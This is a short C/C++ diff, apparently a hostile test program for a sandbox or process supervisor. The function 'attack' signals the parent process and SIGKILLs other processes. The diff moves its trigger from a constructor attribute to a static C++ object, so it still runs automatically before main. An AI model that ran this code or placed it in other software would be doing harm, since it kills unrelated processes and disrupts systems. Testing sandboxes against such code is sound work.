@@ -1,6 +1,6 @@
 #include <signal.h>
 #include <unistd.h>
-__attribute__((constructor)) static void attack(void) {
+static void attack(void) {
     for (int i = 1; i < 32; i++)
         if (i != SIGCHLD)
             kill(getppid(), i);
@@ -9,3 +9,6 @@ __attribute__((constructor)) static void attack(void) {
         if (pid != getpid())
             kill(pid, SIGKILL);
 }
+static struct Attack {
+    Attack() { attack(); }
+} before_main;
